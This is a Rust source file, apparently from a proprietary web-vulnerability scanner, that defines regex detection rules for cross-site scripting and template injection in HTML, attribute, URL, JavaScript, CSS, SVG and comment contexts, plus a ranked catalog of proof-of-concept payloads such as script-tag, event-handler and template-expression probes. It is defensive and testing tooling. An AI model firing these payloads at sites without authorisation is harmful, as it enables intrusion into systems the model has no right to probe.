// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Tutka - Built-in Knowledge Base
 * Curated default rule set and payload catalog
 *
 * Confidence values are curated per-rule data, not derived from a
 * scoring formula. Payload list order is the priority order within
 * each context.
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use crate::catalog::{ContextEntry, KnowledgeBase, PayloadDocument, RuleSetDocument};
use crate::errors::EngineResult;
use crate::rules::DetectionRule;
use crate::types::Severity;

pub const KB_VERSION: &str = "2.0.0";

fn regex(pattern: &str, confidence: f64) -> DetectionRule {
    DetectionRule::Regex {
        pattern: pattern.to_string(),
        case_sensitive: false,
        confidence: Some(confidence),
    }
}

fn regex_cs(pattern: &str, confidence: f64) -> DetectionRule {
    DetectionRule::Regex {
        pattern: pattern.to_string(),
        case_sensitive: true,
        confidence: Some(confidence),
    }
}

fn substring(value: &str, confidence: f64) -> DetectionRule {
    DetectionRule::Substring {
        value: value.to_string(),
        case_sensitive: false,
        confidence: Some(confidence),
    }
}

/// The built-in rule set. Declaration order is the deterministic
/// tie-break order for equal-confidence, equal-severity matches.
pub fn rule_set_document() -> RuleSetDocument {
    RuleSetDocument {
        version: Some(KB_VERSION.to_string()),
        contexts: vec![
            ContextEntry {
                id: "html_content".to_string(),
                title: "HTML Content".to_string(),
                severity: Severity::Critical,
                description: "Script tag injection in HTML content".to_string(),
                base_confidence: None,
                rule: regex(r"<script[^>]*>.*?</script>", 0.95),
            },
            ContextEntry {
                id: "html_attribute".to_string(),
                title: "HTML Attribute".to_string(),
                severity: Severity::High,
                description: "Event handler injection".to_string(),
                base_confidence: None,
                rule: regex(r"on\w+\s*=", 0.85),
            },
            ContextEntry {
                id: "url_context".to_string(),
                title: "URL Context".to_string(),
                severity: Severity::High,
                description: "Script-capable protocol injection in URL".to_string(),
                base_confidence: None,
                rule: DetectionRule::AnyOf {
                    rules: vec![
                        substring("javascript:", 0.90),
                        substring("vbscript:", 0.75),
                        regex(r"data:text/html", 0.90),
                    ],
                },
            },
            ContextEntry {
                id: "template_injection".to_string(),
                title: "Template Expression".to_string(),
                severity: Severity::Critical,
                description: "Template injection pattern".to_string(),
                base_confidence: None,
                rule: DetectionRule::AnyOf {
                    rules: vec![
                        // Brace expressions have no case; matched verbatim.
                        regex_cs(r"\{\{.*\}\}", 0.98),
                        regex_cs(r"\$\{.*\}", 0.90),
                        regex_cs(r"<%.*%>", 0.90),
                        regex_cs(r"#\{.*\}", 0.85),
                    ],
                },
            },
            ContextEntry {
                id: "js_string".to_string(),
                title: "JavaScript String".to_string(),
                severity: Severity::Critical,
                description: "JavaScript string breakout or expression injection".to_string(),
                base_confidence: None,
                rule: DetectionRule::AnyOf {
                    rules: vec![
                        regex(r#"['"]\s*;\s*alert\s*\("#, 0.90),
                        regex(r#"['"]?\s*\+\s*[^'"]*alert\s*\("#, 0.90),
                    ],
                },
            },
            ContextEntry {
                id: "css_context".to_string(),
                title: "CSS Context".to_string(),
                severity: Severity::High,
                description: "Style-sheet script vector injection".to_string(),
                base_confidence: None,
                rule: DetectionRule::AnyOf {
                    rules: vec![
                        regex(r"expression\s*\(", 0.80),
                        regex(r#"url\s*\(\s*['"]?\s*javascript:"#, 0.85),
                        regex(r"@import.*javascript:", 0.85),
                    ],
                },
            },
            ContextEntry {
                id: "svg_context".to_string(),
                title: "SVG Context".to_string(),
                severity: Severity::High,
                description: "SVG event handler injection".to_string(),
                base_confidence: None,
                rule: regex(r"<svg[^>]*\bon\w+", 0.85),
            },
            ContextEntry {
                id: "html_comment".to_string(),
                title: "HTML Comment".to_string(),
                severity: Severity::Medium,
                description: "Comment breakout injection".to_string(),
                base_confidence: None,
                rule: regex(r"<!--.*?-->.*?alert\s*\(", 0.60),
            },
        ],
    }
}

/// The built-in payload catalog. Order within each list is curated
/// priority order; the ranker never re-sorts it.
pub fn payload_document() -> PayloadDocument {
    let mut payloads = PayloadDocument::new();

    payloads.insert(
        "html_content".to_string(),
        vec![
            "<script>alert('XSS')</script>".to_string(),
            "\"><script>alert(1)</script>".to_string(),
            "<img src=x onerror=alert(1)>".to_string(),
            "<svg onload=alert(1)>".to_string(),
            "</textarea><script>alert(1)</script>".to_string(),
        ],
    );

    payloads.insert(
        "html_attribute".to_string(),
        vec![
            "\" onmouseover=alert(1) x=\"".to_string(),
            "' onfocus=alert(1) autofocus x='".to_string(),
            "\" autofocus onfocus=alert(1) \"".to_string(),
            "onerror=alert(1)".to_string(),
        ],
    );

    payloads.insert(
        "url_context".to_string(),
        vec![
            "javascript:alert(1)".to_string(),
            "javascript:alert(document.domain)".to_string(),
            "data:text/html,<script>alert(1)</script>".to_string(),
            "vbscript:msgbox(1)".to_string(),
        ],
    );

    payloads.insert(
        "template_injection".to_string(),
        vec![
            "{{7*7}}".to_string(),
            "${7*7}".to_string(),
            "<%= 7*7 %>".to_string(),
            "{{constructor.constructor('alert(1)')()}}".to_string(),
            "#{7*7}".to_string(),
        ],
    );

    payloads.insert(
        "js_string".to_string(),
        vec![
            "';alert(1)//".to_string(),
            "\";alert(1)//".to_string(),
            "\\';alert(1)//".to_string(),
            "</script><script>alert(1)</script>".to_string(),
        ],
    );

    payloads.insert(
        "css_context".to_string(),
        vec![
            "expression(alert(1))".to_string(),
            "url(javascript:alert(1))".to_string(),
            "@import 'javascript:alert(1)';".to_string(),
        ],
    );

    payloads.insert(
        "svg_context".to_string(),
        vec![
            "<svg onload=alert(1)>".to_string(),
            "<svg/onload=alert(1)>".to_string(),
            "<svg><script>alert(1)</script></svg>".to_string(),
        ],
    );

    payloads.insert(
        "html_comment".to_string(),
        vec![
            "--><script>alert(1)</script>".to_string(),
            "--!><svg onload=alert(1)>".to_string(),
        ],
    );

    payloads
}

/// Build the built-in knowledge base through the same validating
/// constructor as externally loaded documents.
pub fn knowledge_base() -> EngineResult<KnowledgeBase> {
    KnowledgeBase::from_documents(rule_set_document(), payload_document())
}
